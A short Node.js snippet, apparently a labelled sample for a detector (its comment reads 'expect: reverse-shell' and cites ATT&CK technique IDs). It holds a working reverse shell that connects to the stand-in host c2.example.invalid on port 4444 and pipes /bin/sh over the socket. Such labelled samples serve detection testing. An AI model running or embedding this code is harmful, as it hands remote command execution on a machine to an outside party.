// expect: reverse-shell | source: T1059.004, T1095
const net = require("net");
const { spawn } = require("child_process");
const client = new net.Socket();
client.connect(4444, "c2.example.invalid", () => {
  const shell = spawn("/bin/sh", []);
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
});
